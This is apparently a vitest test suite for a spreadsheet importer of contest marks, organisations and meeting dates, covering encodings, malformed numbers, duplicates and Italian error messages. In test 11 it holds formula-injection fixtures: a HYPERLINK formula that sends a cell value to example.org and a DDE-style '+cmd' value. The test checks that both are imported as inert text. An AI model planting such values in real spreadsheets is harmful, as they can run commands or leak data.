import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, test } from 'vitest';
import { dropFile, dropMessy, readMessySetting, sayInItalian } from '../../tests/support/messy-setting.ts';
import { applyMarkDecisions } from './apply-mark-decisions.ts';
import { readCriteria } from './criteria.ts';
import type { ImportNote, ImportVerdict } from './import-note.ts';
import type { MarkSetting } from './mark-setting.ts';
import { readMeetings } from './meetings.ts';
import { readMarksForNewContest } from './new-contest.ts';
import { readOrganisations } from './organisations.ts';
import { type MarkReadingOptions, type MarksPreview, readMarks } from './read-marks.ts';

interface Expected {
  readonly file: string;
  readonly verdict: string;
  readonly rowsOk: number;
  readonly rowsFlagged: number;
  readonly marksOk: number | null;
}

const SCALE = { min: 0, max: 10, step: 0.5 };
const ORGANISATION_LISTS = ['03-', '05-', '07-', '11-'];

const expectedFiles: readonly Expected[] = readFileSync(
  new URL('../../tests/fixtures/messy/expected.csv', import.meta.url),
  'utf8',
)
  .trim()
  .split('\n')
  .slice(1)
  .map((line) => {
    const [file = '', verdict = '', rowsOk, rowsFlagged, marksOk] = line.split(',');
    return {
      file,
      verdict,
      rowsOk: Number(rowsOk),
      rowsFlagged: Number(rowsFlagged),
      marksOk: marksOk ? Number(marksOk) : null,
    };
  });

let setting: MarkSetting;
let after18a: { readonly setting: MarkSetting; readonly knownImports: ReadonlyMap<string, string> };

beforeAll(async () => {
  setting = await readMessySetting();
  const first = await readMarks(dropMessy('18a-voti-giurato-03.csv'), setting);
  const written = await applyMarkDecisions(first);
  after18a = {
    setting: { ...setting, stored: written.marks },
    knownImports: new Map([[first.sha256, first.fileName]]),
  };
});

test('the setting is the one of expected.md', () => {
  expect(setting.pitches).toHaveLength(18);
  expect(setting.jurors).toHaveLength(40);
  expect(setting.criteria.map((criterion) => [criterion.name, criterion.scale])).toEqual(
    ['Innovazione', 'Impatto sociale', 'Sostenibilità', 'Squadra'].map((name) => [name, SCALE]),
  );
});

describe('verdict and counts of every file', () => {
  test('expected.csv lists 29 files', () => expect(expectedFiles).toHaveLength(29));

  test.each(expectedFiles)('$file: $verdict', async ({ file, verdict, rowsOk, rowsFlagged, marksOk }) => {
    const preview = await readAsExpected(file);
    expect({ verdict: preview.verdict, rowsOk: preview.rowsOk, rowsFlagged: preview.rowsFlagged }).toEqual({
      verdict: verdict.toLowerCase(),
      rowsOk,
      rowsFlagged,
    });
    if (marksOk !== null) expect(preview.marksOk).toBe(marksOk);
    for (const note of preview.notes) expect(sayInItalian(note)).not.toMatch(/\{\{|importing|undefined|NaN/);
  });
});

interface Counts {
  readonly verdict: ImportVerdict;
  readonly rowsOk: number;
  readonly rowsFlagged: number;
  readonly marksOk?: number;
  readonly notes: readonly ImportNote[];
}

async function readAsExpected(file: string): Promise<Counts> {
  if (ORGANISATION_LISTS.some((start) => file.startsWith(start))) return readOrganisations(dropMessy(file), []);
  if (file.startsWith('20-')) return readMeetings(dropMessy(file), setting.pitches);
  if (file.startsWith('12-')) return readMarksForNewContest(dropMessy(file), SCALE);
  if (file.startsWith('18b') || file.startsWith('18c')) {
    return readMarks(dropMessy(file), after18a.setting, { knownImports: after18a.knownImports });
  }
  return readMarks(dropMessy(file), setting);
}

async function readSheet(file: string, options: MarkReadingOptions = {}): Promise<MarksPreview> {
  return readMarks(dropMessy(file), setting, options);
}

/** The marks of a row in the order of the criteria; null where one is missing. */
function marksOf(preview: MarksPreview, row: number): readonly (number | null)[] {
  const found = preview.rows.find((one) => one.row === row);
  return preview.setting.criteria.map(
    (criterion) => found?.marks.find((mark) => mark.criterionId === criterion.id)?.value ?? null,
  );
}

function sumOf(preview: MarksPreview): number {
  const good = preview.rows.filter((row) => row.state === 'new' || row.state === 'unchanged');
  return good.flatMap((row) => row.marks).reduce((sum, mark) => sum + mark.value, 0);
}

function sentences(preview: { readonly notes: readonly ImportNote[] }): readonly string[] {
  return preview.notes.map(sayInItalian);
}

function statesOf(preview: MarksPreview): Readonly<Record<number, string>> {
  return Object.fromEntries(preview.rows.map((row) => [row.row, row.state]));
}

describe('what must happen', () => {
  test('01: no byte order mark in the first heading', async () => {
    const preview = await readSheet('01-bom.csv');
    expect(preview.table?.columns[0]?.header).toBe('Progetto');
    expect(preview.table?.columns[0]?.header).toHaveLength(8);
    expect(sumOf(preview)).toBe(337.5);
  });

  test('02: UTF-16 and tab are found', async () => {
    const preview = await readSheet('02-utf16le.txt');
    expect(preview.table?.workbook).toMatchObject({ encoding: 'utf-16le', separator: '\t' });
    expect(preview.table?.columns[4]?.header).toBe('Sostenibilità');
    expect(JSON.stringify(preview.table?.rows)).toContain('prossimità');
    expect(sumOf(preview)).toBe(316.5);
  });

  test('03: windows-1252 comes out sign for sign, amounts exact', async () => {
    const preview = await readOrganisations(dropMessy('03-windows-1252.csv'), []);
    expect(preview.table?.workbook.encoding).toBe('windows-1252');
    const text = JSON.stringify(preview.rows);
    expect(text).not.toMatch(/[\uFFFDÃ\u0080-\u009F]/);
    expect(text).toContain('\u2014');
    expect(text).toContain('l\u2019orto è più di un orto');
    expect(text).toContain(
      'Sensori \u201Cleggeri\u201D \u2013 niente telecamere, però c\u2019è chi ascolta, lì vicino\u2026',
    );
    expect(preview.table?.rows[0]?.cells[4]?.text).toBe('\u20AC 12.500,00');
    expect(preview.rows.map((row) => row.draft.requestedCents)).toEqual([1_250_000, 800_000, 1_525_050, 0, null]);
    const known = new Set(setting.pitches.map((pitch) => pitch.name));
    expect(preview.rows.map((row) => row.draft.name).filter((name) => !known.has(name))).toEqual([]);
  });

  test('04: tab, with decimal commas', async () => {
    const preview = await readSheet('04-tabulazioni.tsv');
    expect(preview.table?.workbook.separator).toBe('\t');
    expect(sumOf(preview)).toBe(166);
  });

  test('05: a cell with line breaks is one row', async () => {
    const preview = await readOrganisations(dropMessy('05-a-capo-tra-virgolette.csv'), []);
    const [first, second, third] = preview.rows;
    expect(preview.rows.map((row) => row.row)).toEqual([2, 3, 4]);
    expect(first?.draft.description.split('\n')).toEqual([
      'Raccoglie l’invenduto;',
      'lo consegna a casa.',
      '',
      'Chi può, paga anche per chi non può.',
    ]);
    expect(second?.draft.description).toBe('Biglietto "sospeso"\ne laboratori');
    expect(third?.draft.contactName).toBe('Referente progetto');
  });

  test('06: header found in row 4', async () => {
    const preview = await readSheet('06-intestazione-riga-4.csv');
    expect(preview.table?.headerRow).toBe(4);
    expect(preview.rows.map((row) => row.row)).toEqual([5, 6, 7, 8, 9, 10]);
    expect(sumOf(preview)).toBe(158.5);
  });

  test('07: copies are shown, none is added', async () => {
    const preview = await readOrganisations(dropMessy('07-nomi-doppi.csv'), []);
    expect(preview.rows.filter((row) => row.state === 'ok').map((row) => row.row)).toEqual([2, 7, 9, 11, 12]);
    const twins = preview.rows.flatMap((row) => (row.twin?.kind === 'row' ? [[row.row, row.twin.row]] : []));
    expect(twins).toEqual([
      [3, 2],
      [4, 2],
      [5, 2],
      [6, 2],
      [8, 7],
      [10, 9],
    ]);
    expect(sentences(preview)).toContain(
      "Riga 3: «ESEMPIO 12 — ORTO DI COMUNITA'» sembra la stessa realtà della riga 2 («Esempio 12 — Orto di comunità»). Unire?",
    );
  });

  test('08: empty rows are skipped and counted', async () => {
    const preview = await readSheet('08-righe-vuote.csv');
    expect(preview.rows.map((row) => row.row)).toEqual([2, 4, 6, 8, 9, 12]);
    expect(preview.notes).toEqual([]);
  });

  test('09: a stray cell is said, its row comes in', async () => {
    const preview = await readSheet('09-colonne-in-coda.csv');
    expect(statesOf(preview)[5]).toBe('new');
    expect(sentences(preview)).toEqual([
      'Riga 5, colonna K: «vedi mail» non ha un’intestazione e non è stato importato.',
    ]);
  });

  test('10: comma and point, never zero for nothing', async () => {
    const preview = await readSheet('10-numeri-misti.csv');
    expect([2, 3, 4, 5, 7].map((row) => marksOf(preview, row))).toEqual([
      [7.5, 7.5, 8, 8],
      [6.5, 6.5, 9, 9],
      [7, 7.5, 8.5, 8],
      [5.5, 10, 10, 0],
      [7, null, 6.5, 7],
    ]);
    expect(statesOf(preview)[6]).toBe('held');
    expect(preview.marksMissing).toBe(1);
    expect(sentences(preview)).toEqual([
      'Riga 6, «Impatto sociale»: «assente» non è un numero. Lasciare vuoto o correggere?',
    ]);
  });

  test('10b: numbers stored as text', async () => {
    const preview = await readSheet('10b-numeri-come-testo.xlsx');
    expect([2, 3, 4, 6].map((row) => marksOf(preview, row))).toEqual([
      [7.5, 7.5, 8, 8],
      [6.5, 6.5, 9, 9],
      [7, 7.5, 8.5, 8],
      [7.5, null, 8, 6],
    ]);
    expect(sentences(preview)[0]).toContain('Riga 5, «Innovazione»: «assente» non è un numero.');
  });

  test('11: what looks like a formula comes in as text', async () => {
    const preview = await readOrganisations(dropMessy('11-formule.csv'), []);
    expect(preview.rows.map(({ draft }) => [draft.name, draft.description, draft.contactName, draft.notes])).toEqual([
      [
        'Esempio 8 — Dispensa di quartiere',
        '=HYPERLINK("https://example.org/?x="&A2;"Apri la scheda")',
        'Referente progetto',
        '=1+1',
      ],
      ['Esempio 9 — Casa in comune', "+cmd|' /C echo prova'!A0", 'Referente progetto', '-2+3'],
      ['Esempio 10 — Teatro di prossimità', '@SUM(A1:A9)', 'Referente progetto', '=A1'],
      ['=Esempio 19 — Nome che comincia con uguale', 'Descrizione normale', '+39 (numero di esempio)', '- primo punto'],
    ]);
    expect(sentences(preview)).toEqual([
      'Riga 2, «Descrizione», «Note»: le celle cominciano con «=». Sono state importate come testo, senza eseguirle.',
      'Riga 3, «Descrizione», «Note»: le celle cominciano con «+», «-». Sono state importate come testo, senza eseguirle.',
      'Riga 4, «Descrizione», «Note»: le celle cominciano con «@», «=». Sono state importate come testo, senza eseguirle.',
      'Riga 5, «Nome»: la cella comincia con «=». È stata importata come testo, senza eseguirla.',
    ]);
  });

  test('11b: stored results, unknown columns said once', async () => {
    const preview = await readSheet('11b-formule.xlsx');
    expect([2, 3].map((row) => marksOf(preview, row))).toEqual([
      [7, 8, 7.5, 9],
      [6, 7.5, 7, 7],
    ]);
    expect(preview.table?.rows[0]?.cells[7]).toEqual({ kind: 'text', text: 'Apri la scheda' });
    expect(sentences(preview)).toEqual([
      'Le colonne «Totale», «Scheda» non sono previste e non sono state importate.',
      'Riga 4, «Innovazione»: la cella contiene un errore (#DIV/0!).',
    ]);
  });

  test('12: ten thousand marks make a contest', async () => {
    const steps: number[] = [];
    const preview = await readMarksForNewContest(dropMessy('12-diecimila-righe.csv'), SCALE, {
      onProgress: (done) => steps.push(done),
    });
    expect([preview.setting.pitches.length, preview.setting.jurors.length]).toEqual([50, 40]);
    expect(sumOf(preview)).toBe(65_809.5);
    const byCriterion = preview.setting.criteria.map((criterion) => [
      criterion.name,
      preview.rows
        .flatMap((row) => row.marks)
        .reduce((sum, mark) => sum + (mark.criterionId === criterion.id ? mark.value : 0), 0),
    ]);
    expect(Object.fromEntries(byCriterion)).toEqual({
      Innovazione: 13_167.5,
      'Impatto sociale': 13_172,
      Sostenibilità: 13_114,
      Squadra: 13_166,
      Presentazione: 13_190,
    });
    const means = preview.setting.pitches.map((pitch) => {
      const marks = preview.rows.filter((row) => row.pitchId === pitch.id).flatMap((row) => row.marks);
      return { name: pitch.name, mean: marks.reduce((sum, mark) => sum + mark.value, 0) / marks.length };
    });
    const top = means.sort((a, b) => b.mean - a.mean).slice(0, 3);
    expect(top.map(({ name, mean }) => `${name} ${mean.toFixed(3)}`)).toEqual([
      'Progetto 046 7.980',
      'Progetto 033 7.870',
      'Progetto 016 7.725',
    ]);
    expect(steps).toEqual([1000, 2000, 3000, 4000, 5000, 6000, 7000, 8000, 9000, 10_000]);
    const keys = preview.rows.map((row) => `${row.pitchId} ${row.jurorId} ${row.marks[0]?.criterionId}`);
    expect(new Set(keys).size).toBe(10_000);
  });

  test('13: a picture is known by its bytes', async () => {
    const [sentence] = sentences(await readSheet('13-immagine.csv'));
    expect(sentence).toBe(
      '«13-immagine.csv» è un’immagine PNG, non un foglio di dati. Scegliere un file CSV, XLSX o ODS.',
    );
  });

  test('14: the sheet that fits is proposed', async () => {
    const preview = await readSheet('14-due-fogli.xlsx');
    expect(preview.table?.workbook.sheets.map((sheet) => sheet.name)).toEqual(['Istruzioni', 'Voti']);
    expect(preview.table?.sheetIndex).toBe(1);
    expect(sumOf(preview)).toBe(317);
    const wrongSheet = await readSheet('14-due-fogli.xlsx', { choices: { sheetIndex: 0 } });
    expect(wrongSheet.verdict).toBe('refuse');
  });

  test('15: a password is called a password', async () => {
    const said = sentences(await readSheet('15-protetto.xlsx'));
    expect(said).toEqual([
      '«15-protetto.xlsx» è protetto da una password. Aprirlo, salvarlo senza password e riprovare.',
    ]);
    expect(said.join()).not.toMatch(/danneggiat|vecchio/);
  });

  test('16: nothing is clipped or rounded', async () => {
    const preview = await readSheet('16-voto-fuori-scala.csv');
    expect(statesOf(preview)).toEqual({ 2: 'new', 3: 'held', 4: 'new', 5: 'held', 6: 'held', 7: 'held' });
    expect(sentences(preview)).toEqual([
      'Riga 3, «Innovazione»: 11 è fuori dalla scala 0–10.',
      'Riga 5, «Sostenibilità»: 75 è fuori dalla scala 0–10.',
      'Riga 6, «Impatto sociale»: -1 è fuori dalla scala 0–10.',
      'Riga 7, «Squadra»: 7,3 non rispetta il passo di 0,5.',
    ]);
  });

  test('17: jurors are never made up nor guessed', async () => {
    const preview = await readSheet('17-giurato-sconosciuto.csv');
    expect(statesOf(preview)).toEqual({ 2: 'new', 3: 'new', 4: 'held', 5: 'new', 6: 'held', 7: 'held' });
    expect(sentences(preview)).toEqual([
      'Riga 4: «Giurato 41» non fa parte della giuria di questo contest.',
      'Riga 6: «giurato 1» non c’è; forse «Giurato 01»?',
      'Riga 7: manca il giurato.',
    ]);
    expect(preview.notes[1]?.proposal).toEqual({ kind: 'take-name', of: 'juror', id: 'G01', name: 'Giurato 01' });
    expect(preview.notes[0]?.proposal).toBeNull();
  });

  test('18a: a first delivery', async () => {
    expect(sumOf(await readSheet('18a-voti-giurato-03.csv'))).toBe(163);
    expect(after18a.setting.stored).toHaveLength(24);
  });

  test('18b: the same bytes under another name change nothing', async () => {
    const preview = await readMarks(dropMessy('18b-voti-giurato-03 (1).csv'), after18a.setting, {
      knownImports: after18a.knownImports,
    });
    expect(sentences(preview)).toEqual([
      'Questo foglio è già stato importato («18a-voti-giurato-03.csv»): 6 righe identiche, nessuna modifica.',
    ]);
    expect(await applyMarkDecisions(preview)).toMatchObject({ marks: [], replaced: [] });
  });

  test('18c: a changed mark waits for the user', async () => {
    const preview = await readMarks(dropMessy('18c-voti-giurato-03-corretto.csv'), after18a.setting, {
      knownImports: after18a.knownImports,
    });
    expect(statesOf(preview)).toEqual({
      2: 'unchanged',
      3: 'held',
      4: 'unchanged',
      5: 'unchanged',
      6: 'unchanged',
      7: 'unchanged',
    });
    expect(sentences(preview)).toContain(
      'Riga 3, «Impatto sociale»: il voto di Giurato 03 era 9, nel file è 8,5. Sostituire?',
    );
    const change = { row: 3, pitchId: 'O09', jurorId: 'G03', criterionId: 'Impatto sociale', value: 8.5 };
    expect(await applyMarkDecisions(preview)).toMatchObject({ marks: [], leftOutRows: [3] });
    expect(await applyMarkDecisions(preview, new Map([[3, { onChange: 'keep' }]]))).toMatchObject({ marks: [] });
    expect(await applyMarkDecisions(preview, new Map([[3, { onChange: 'replace' }]]))).toMatchObject({
      marks: [change],
      replaced: [{ ...change, before: 9 }],
      leftOutRows: [],
    });
  });

  test('19: marks written as fractions', async () => {
    const preview = await readSheet('19-sette-su-dieci.csv');
    expect([2, 3, 4, 7].map((row) => marksOf(preview, row))).toEqual([
      [7, 8, 6.5, 9],
      [7, 10, 0, 7.5],
      [8, 7, 6, 5],
      [7, 8, 6.5, 9],
    ]);
    expect(sentences(preview)).toEqual([
      'Riga 5, «Innovazione»: «14/20» è su un’altra scala (qui i voti sono su 10).',
      'Riga 6, «Innovazione»: «7/» è incompleto. Scrivere il voto per intero, per esempio «7» o «7/10».',
    ]);
  });

  test('19b: a date is no mark', async () => {
    const preview = await readSheet('19b-sette-su-dieci-diventato-data.xlsx');
    expect(statesOf(preview)).toEqual({ 2: 'new', 3: 'held', 4: 'held' });
    expect(sentences(preview)).toEqual([
      'Riga 3, «Innovazione»: la cella contiene una data (07/10/2021), non un voto. Forse era «7/10»?',
      'Riga 4, «Impatto sociale»: la cella contiene una data (08/10/2021), non un voto. Forse era «8/10»?',
    ]);
    expect(preview.notes[0]?.proposal).toEqual({ kind: 'take-mark', criterionId: 'Innovazione', mark: 7 });
  });

  test('20: dates are day first', async () => {
    const preview = await readMeetings(dropMessy('20-date-italiane.csv'), setting.pitches);
    const dates = Object.fromEntries(
      preview.rows.map((row) => [row.row, row.state === 'ok' ? row.draft.date : 'held']),
    );
    expect(dates).toEqual({
      2: '2021-04-03',
      3: '2021-04-13',
      4: '2021-04-03',
      5: '2021-04-03',
      6: 'held',
      7: 'held',
      8: '2021-04-03',
      9: '2021-04-03',
      10: null,
    });
    expect(sentences(preview)).toEqual([
      'Riga 6, «Data incontro»: «31/04/2021» non esiste nel calendario.',
      'Riga 7, «Data incontro»: «04/13/2021»: il mese 13 non esiste; scrivere giorno/mese/anno.',
    ]);
  });

  test('21: mixed line ends', async () => {
    const preview = await readSheet('21-fine-riga-miste.csv');
    expect(preview.table?.columns.at(-1)?.header).toBe('Squadra');
    expect(JSON.stringify(preview.table)).not.toContain(String.raw`\r`);
    expect(marksOf(preview, 7)).toEqual([7, 4, 5, 4.5]);
    expect(preview.rows).toHaveLength(6);
  });

  test('22: a header alone is no contest', async () => {
    expect(sentences(await readSheet('22-zero-righe.csv'))).toEqual([
      'Il foglio ha l’intestazione (riga 1) ma nessuna riga di voti.',
    ]);
  });

  test('23: an empty file', async () => {
    expect(sentences(await readSheet('23-file-vuoto.csv'))).toEqual(['Il file «23-file-vuoto.csv» è vuoto (0 byte).']);
  });

  test('24: ODS is read like XLSX', async () => {
    const preview = await readSheet('24-libreoffice.ods');
    expect(preview.table?.workbook.format).toBe('ods');
    expect(sumOf(preview)).toBe(171.5);
  });

  test('the criteria table', async () => {
    const preview = await readCriteria(dropMessy('criteri.csv'));
    expect(preview.rows.map((row) => row.draft.weight)).toEqual([30, 30, 25, 15]);
    expect(preview.scale).toEqual(SCALE);
  });
});

describe('the real contest in its three forms', () => {
  const scale = { min: 0, max: 10, step: 0.25 };

  async function readForm(fileName: string, italian: boolean): Promise<readonly string[]> {
    const preview = await readMarksForNewContest(dropFile(`assets/sample/contest-real/${fileName}`), scale);
    const criteria = await readCriteria(dropFile('assets/sample/contest-real/criteria.csv'));
    const english = new Map(criteria.rows.map(({ draft }) => [draft.otherName, draft.name]));
    const nameOf = (entries: readonly { id: string; name: string }[], id: string | null) =>
      entries.find((entry) => entry.id === id)?.name ?? '?';
    return preview.rows
      .flatMap((row) =>
        row.marks.map((mark) => {
          const criterion = nameOf(preview.setting.criteria, mark.criterionId);
          const pitch = nameOf(preview.setting.pitches, row.pitchId);
          const juror = nameOf(preview.setting.jurors, row.jurorId);
          return `${juror}|${pitch}|${italian ? (english.get(criterion) ?? '?') : criterion}|${mark.value}`;
        }),
      )
      .sort();
  }

  test('long, wide in windows-1252 and XLSX give the same 810 marks', async () => {
    const long = await readForm('scores-long.csv', false);
    expect(long).toHaveLength(810);
    expect(await readForm('scores-wide-it.csv', true)).toEqual(long);
    expect(await readForm('scores.xlsx', true)).toEqual(long);
  });
});
